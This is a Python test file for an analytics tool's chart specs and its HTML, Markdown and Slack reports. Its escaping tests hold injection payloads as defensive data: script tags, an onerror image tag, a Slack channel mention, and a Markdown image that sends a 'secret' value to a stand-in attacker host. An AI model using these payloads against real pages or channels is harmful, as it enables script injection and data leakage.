"""The HTML report's chart choices and escaping (the browser test checks rendering)."""

from __future__ import annotations

import json

import pandas as pd
import pytest

from assay.models import CompactResult, DiscoveryResult, ExplorationStep, Insight, StepAction
from assay.report.html import chart_spec, render_html, step_frame


def insight(name, description, segment=None, **kw):
    return Insight(id="a-1", area="a", name=name, description=description, segment=segment, source_steps=[1], **kw)


def test_measure_named_first_is_charted_and_the_segment_highlighted():
    df = pd.DataFrame({"country": ["US", "BR", "DE"], "n": [900, 800, 700], "entities": [90, 80, 70],
                       "avg_duration_s": [600.0, 320.0, 610.0]})
    i = insight("BR has a much lower average duration_s than other country values",
                "In sessions, BR has an average duration_s of 320 (unit: entities).", segment="country=BR")
    spec = chart_spec(i, df)
    assert spec["mark"]["type"] == "bar"
    assert spec["encoding"]["x"]["field"] == "avg_duration_s" and spec["encoding"]["y"]["field"] == "country"
    assert "BR" in spec["encoding"]["color"]["condition"]["test"]


def test_counts_for_a_number_of_rows_over_time():
    df = pd.DataFrame({"month": pd.date_range("2026-01-01", periods=6, freq="MS").astype(str), "n": range(6),
                       "avg_duration_s": [1.0] * 6})
    spec = chart_spec(insight("The monthly number of sessions is increasing over time", "Grew by 1 a month."), df)
    assert spec["mark"]["type"] == "line" and spec["encoding"]["y"]["field"] == "n"
    assert spec["encoding"]["x"]["type"] == "temporal"


def test_a_total_is_charted_as_the_total_not_the_average_of_the_same_column():
    """A new user (session 27): under "The monthly total amount rose 97.6% from 2026-06-01" the chart drew
    avg_amount, flat at 100-115, beside sum_amount: both name "amount"."""
    df = pd.DataFrame({"month": pd.date_range("2026-01-01", periods=8, freq="MS").astype(str), "n": [90] * 8,
                       "avg_amount": [101.0, 104.0, 99.0, 110.0, 103.0, 112.0, 108.0, 105.0],
                       "sum_amount": [9100.0, 9300.0, 8900.0, 9900.0, 9200.0, 18100.0, 18200.0, 18300.0]})
    total = insight("The monthly total amount rose 97.6% from 2026-06-01", "From 9,183 to 18,147 a month.")
    assert chart_spec(total, df)["layer"][0]["encoding"]["y"]["field"] == "sum_amount"
    average = insight("The monthly average amount rose 5.1% from 2026-06-01", "From 103 to 108.")
    assert chart_spec(average, df)["layer"][0]["encoding"]["y"]["field"] == "avg_amount"


def test_ordinal_segments_keep_their_order_and_a_low_segment_is_never_cut():
    df = pd.DataFrame({"level": list(range(1, 61)), "n": [100] * 60, "won_rate": [0.6] * 41 + [0.02] + [0.6] * 18})
    spec = chart_spec(insight("42 has a much lower won rate than other level values", "won rate 0.02",
                              segment="level=42"), df)
    assert spec["encoding"]["x"]["field"] == "level" and spec["encoding"]["x"]["sort"][:3] == ["1", "2", "3"]
    cats = pd.DataFrame({"product": [f"p{k}" for k in range(40)], "avg_price": list(range(40, 0, -1))})
    spec = chart_spec(insight("p39 has a much lower average price", "price", segment="product=p39"), cats)
    rows = spec["datasets"][next(iter(spec["datasets"]))]
    assert len(rows) == 25 and rows[-1]["product"] == "p39"


def test_nothing_to_plot():
    assert chart_spec(insight("x has y", "one row"), pd.DataFrame({"a": [1]})) is None
    assert chart_spec(insight("x has y", "strings"), pd.DataFrame({"a": ["u", "v"], "b": ["w", "z"]})) is None


def test_partial_digests_are_not_charted_and_nothing_is_queried():
    """The report draws only from the stored (masked) digest: a digest with head and tail rows only
    gives no chart, and there is no way to hand the report a warehouse to re-run the query."""
    import inspect

    digest = CompactResult(row_count=5000, head_rows=[{"a": 1}], tail_rows=[{"a": 2}])
    step = ExplorationStep(run_id="r", step=1, turn=1, action=StepAction.query, query="SELECT 1", digest=digest)
    assert step_frame(step) is None
    assert list(inspect.signature(step_frame).parameters) == ["step"]
    assert list(inspect.signature(render_html).parameters) == ["r", "steps"]


def test_masked_columns_are_never_plotted():
    from assay.digest import build_compact_result
    from assay.pii import MASK

    df = pd.DataFrame({"email": ["a@x.io", "b@x.io", "c@x.io"], "contact": [MASK, MASK, None], "n": [3, 5, 9]})
    step = ExplorationStep(run_id="r", step=1, turn=1, action=StepAction.query, query="SELECT 1",
                           digest=build_compact_result(df))
    frame = step_frame(step)
    assert list(frame.columns) == ["n"]  # email masked by name, contact masked upstream (by lineage)
    html = render_html(DiscoveryResult(run_id="abcdef123", project_id="p", domain="d",
                                       insights=[insight("n rises by email", "n grows")]), {1: step})
    assert "a@x.io" not in html and "b@x.io" not in html


def test_text_is_escaped():
    from assay.models import DiscoveryResult

    r = DiscoveryResult(run_id="abcdef123", project_id="p", domain="d",
                        insights=[insight("<script>alert(1)</script> rises", "a & b")])
    html = render_html(r, {})
    assert "<script>alert(1)</script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "a &amp; b" in html


def test_a_chart_value_cannot_end_or_open_the_report_s_script():
    """Red team 13 (session 26): a category value ``<!--<script>`` in a chart's rows put the specs' <script> element
    in its double-escaped state: its own ``</script>`` no longer closed it, no chart was drawn and the HTML after it
    was read as script. The specs carry no ``<``, ``>`` or ``&`` as such, and read back as the same values."""
    from assay.digest import build_compact_result

    values = ["<!--<script>", "</script><img src=x onerror=alert(1)>", "a & b"]
    df = pd.DataFrame({"region": values, "n": [900, 800, 700]})
    step = ExplorationStep(run_id="r", step=1, turn=1, action=StepAction.query, query="SELECT 1",
                           digest=build_compact_result(df))
    i = insight("<!--<script> has a much higher n than other region values", "n 900", segment="region=<!--<script>")
    html = render_html(DiscoveryResult(run_id="abcdef123", project_id="p", domain="d", insights=[i]), {1: step})
    body = html.split("const specs = ", 1)[1].split(";\nfor (const", 1)[0]
    assert "<" not in body and ">" not in body and "&" not in body
    rows = [row for spec in json.loads(body).values() for d in spec["datasets"].values() for row in d]
    assert {r["region"] for r in rows} == set(values)


def test_warehouse_text_is_escaped_in_the_markdown_report_and_the_slack_message():
    """A category value "<script>" reached the Markdown report (the Prefect artifact) as a tag, and "<!channel>"
    pinged a Slack channel from the run's summary (session 23's red team)."""
    from assay.models import DiscoveryResult
    from assay.notify import summary_message
    from assay.report.markdown import render_markdown

    r = DiscoveryResult(run_id="abcdef123", project_id="p", domain="d",
                        insights=[insight("<!channel> <https://e.vil|see> has a higher v", "<script>x</script> & co")])
    md = render_markdown(r)
    assert "<script>" not in md and "&lt;script>x&lt;/script> & co" in md  # no tag opens; > and & as written
    msg = summary_message(r)
    text = " ".join(b["text"]["text"] for b in msg["blocks"] if "text" in b)
    assert "<!channel>" not in text and "<https://" not in text and "&lt;!channel&gt;" in text
    # link and image syntax from a model or a value shows as written: a viewer would fetch the image's URL (red
    # team 10, session 25)
    from assay.models import Recommendation

    r = DiscoveryResult(run_id="abcdef124", project_id="p", domain="d",
                        insights=[insight("west has ![](https://e.vil/p.png?d=secret) more", "see [x](javascript:1)")],
                        recommendations=[Recommendation(id="rec-1", title="Act", effort="![](https://e.vil/e.png)",
                                                        related_insight_ids=["[a](https://e.vil)"])])
    md = render_markdown(r)
    import re

    assert not re.search(r"(?<!\\)\]\(", md)  # no link or image: every bracket escaped
    assert "!\\[\\](https://e.vil/p.png?d=secret)" in md


def test_columns_named_with_vega_syntax_are_charted():
    """A column "seg.kind" drew no bar and "Ca't" no chart: Vega-Lite reads "." as a path and a quote as a string's
    end (session 23's red team)."""
    df = pd.DataFrame({"seg.kind": ["a", "b", "c"], "Ca't": [3.0, 9.0, 4.0], "x[0]": [1, 2, 3]})
    spec = chart_spec(insight("b has the highest Ca't", "b: 9.0", segment="seg.kind=b"), df)
    assert spec is not None
    json.dumps(spec)  # serialisable, as the page embeds it
    y, x = spec["encoding"]["y"]["field"], spec["encoding"]["x"]["field"]
    assert not any(ch in y + x for ch in ".'[]:"), (y, x)
    rows = next(iter(spec["datasets"].values()))
    assert {r[y] for r in rows} == {"a", "b", "c"} and sorted(r[x] for r in rows) == [3.0, 4.0, 9.0]
    assert spec["encoding"]["color"]["condition"]["test"] == 'datum[\'seg_kind\'] == "b"'  # still highlighted


def test_a_measure_named_like_time_is_not_a_time_axis():
    df = pd.DataFrame({"assigned_to": ["Fred", "Beth", "Luke"], "n": [76, 100, 98],
                       "avg_time_to_resolution_days": [31.2, 6.1, 6.4], "sd_time_to_resolution_days": [9.0, 2, 2]})
    spec = chart_spec(insight("Fred has a significantly higher average time to resolution than other assigned to "
                              "values", "Fred averages 31.2 days", segment="assigned_to=Fred"), df)
    assert spec["mark"]["type"] == "bar" and spec["encoding"]["x"]["field"] == "avg_time_to_resolution_days"


def test_the_claim_decides_what_is_plotted():
    import warnings

    from assay.models import Claim

    df = pd.DataFrame({"platform": ["web", "ios", "android"], "orders": [900, 500, 300],
                       "conversion": [0.52, 0.51, 0.14]})
    claim = Claim(metric="rate", measure="conversion", segment="android", segment_sql="platform = 'android'",
                  baseline="web and ios", baseline_sql="platform <> 'android'", value=0.14, baseline_value=0.52)
    i = insight("Android lost most of its orders", "orders fell", claims=[claim])
    with warnings.catch_warnings():
        warnings.simplefilter("error")  # `assay report` prints no library warnings
        spec = chart_spec(i, df)
    assert spec["encoding"]["x"]["field"] == "conversion"  # the claim's metric, not the first number named
    assert "android" in spec["encoding"]["color"]["condition"]["test"]  # the segment against the rest
    # a rate's axis and tooltip in percent, as the text writes it (a new user read 0-0.6 beside "55.6%"); the
    # dimension's title in words
    assert spec["encoding"]["x"]["axis"]["format"] == "%" and spec["encoding"]["tooltip"][1]["format"] == ".1%"
    assert spec["encoding"]["y"]["title"] == "platform"
    spec = chart_spec(insight("BR has a much lower average duration_s than other country values", "320",
                              segment="country=BR"),
                      pd.DataFrame({"country": ["US", "BR"], "avg_duration_s": [600.0, 320.0]}))
    assert "format" not in (spec["encoding"]["x"].get("axis") or {})  # not a rate: as it is
    other = Claim(metric="rate", measure="conversion", segment="tablet", segment_sql="device = 'tablet'", value=0.1)
    assert chart_spec(insight("Tablets convert less", "conversion", claims=[other]), df) is None  # not shown there


def test_a_change_is_marked_where_it_begins():
    from assay.models import Claim

    df = pd.DataFrame({"month": pd.date_range("2026-01-01", periods=10, freq="MS").astype(str),
                       "revenue": [100.0] * 6 + [45.0] * 4})
    claim = Claim(metric="change", measure="revenue", segment="since July", period="since 2026-07-01",
                  value=45, baseline_value=100)
    spec = chart_spec(insight("Revenue halved", "fell", claims=[claim]), df)
    marks = [layer["mark"]["type"] for layer in spec["layer"]]
    assert marks == ["line", "rule"]
    rule = spec["datasets"][spec["layer"][1]["data"]["name"]]
    assert rule[0]["month"].startswith("2026-07-01")


def test_a_rate_of_one_outcome_per_another_is_drawn_as_that_rate():
    """The demo's "android events have a much lower rate of purchase per add_to_cart" was drawn as each
    platform's total of all events (android looked like the biggest, not the worst)."""
    from assay.models import Claim

    rows = [("android", "add_to_cart", 29325), ("android", "purchase", 6335), ("android", "view", 256192),
            ("ios", "add_to_cart", 24434), ("ios", "purchase", 10148), ("ios", "view", 214189),
            ("web", "add_to_cart", 43507), ("web", "purchase", 18040), ("web", "view", 381903)]
    df = pd.DataFrame(rows, columns=["platform", "event_type", "n"])
    claim = Claim(metric="rate", measure="purchase per add_to_cart", segment="platform = android",
                  segment_sql="\"platform\" = 'android'", value=0.216, baseline_value=0.415)
    i = insight("android events have a much lower rate of purchase per add_to_cart than other platform values",
                "purchase per add_to_cart for platform = android is 0.216", claims=[claim])
    spec = chart_spec(i, df)
    assert spec["encoding"]["x"]["field"] == "purchase_per_add_to_cart"
    drawn = {r["platform"]: r["purchase_per_add_to_cart"] for r in spec["datasets"][spec["data"]["name"]]}
    assert drawn == pytest.approx({"android": 6335 / 29325, "ios": 10148 / 24434, "web": 18040 / 43507})
    assert "android" in spec["encoding"]["color"]["condition"]["test"]
    # over months, one line per platform
    months = pd.DataFrame([(m, p, e, n * (k + 1)) for k, m in enumerate(["2026-06-01", "2026-07-01"])
                           for p, e, n in rows], columns=["month", "platform", "event_type", "n"])
    spec = chart_spec(i, months)
    assert spec["mark"]["type"] == "line" and spec["encoding"]["y"]["field"] == "purchase_per_add_to_cart"
    assert spec["encoding"]["color"]["field"] == "platform"
    # a rate the result cannot form (no add_to_cart rows): no chart rather than the counts
    assert chart_spec(i, df[df.event_type != "add_to_cart"]) is None


def test_a_step_s_chart_rows_draw_what_its_digest_cut():
    from assay.digest import build_compact_result, chart_rows

    months = pd.date_range("2025-11-01", periods=12, freq="MS").astype(str)
    df = pd.DataFrame({"month": [m for m in months for _ in range(3)], "platform": ["android", "ios", "web"] * 12,
                       "conversion": [0.45 if k < 24 or k % 3 else 0.11 for k in range(36)]})
    step = ExplorationStep(run_id="r", step=1, action=StepAction.query, query="SELECT 1",
                           digest=build_compact_result(df), chart_rows=chart_rows(df))
    frame = step_frame(step)
    assert len(frame) == 36 and list(frame.columns) == ["month", "platform", "conversion"]
    spec = chart_spec(insight("android conversion fell from 2026-07-01", "from 0.45 to 0.11",
                              segment="platform=android"), frame)
    assert spec["layer"][0]["mark"]["type"] == "line"
    assert step_frame(step.model_copy(update={"chart_rows": None})) is None  # the digest's 12 rows: no chart


def test_a_concentration_is_drawn_as_each_top_group_s_share_beside_an_even_spread():
    df = pd.DataFrame([{"entities": 24093, "total": 4134554.0, "top1": 553809.7, "top5": 1230101.0,
                        "top10": 1788711.0, "weighted": 7.7e10}])
    spec = chart_spec(insight("Top 1% of customer_id (241) bring 13.4% of total_amount", "the top 1%, 5% and 10% hold "
                              "13.4%, 29.8% and 43.3%"), df)
    drawn = {(r["group"], r["of"]): r["share"] for r in spec["datasets"][spec["data"]["name"]]}
    assert drawn[("top 1%", "their share")] == pytest.approx(0.134, abs=1e-3)
    assert drawn[("top 10%", "their share")] == pytest.approx(0.433, abs=1e-3)
    assert drawn[("top 5%", "an even spread")] == pytest.approx(0.05)
    assert spec["encoding"]["x"]["axis"]["format"] == "%"
    assert chart_spec(insight("a profile", "one row"), pd.DataFrame([{"row_count": 400, "name__nulls": 37}])) is None
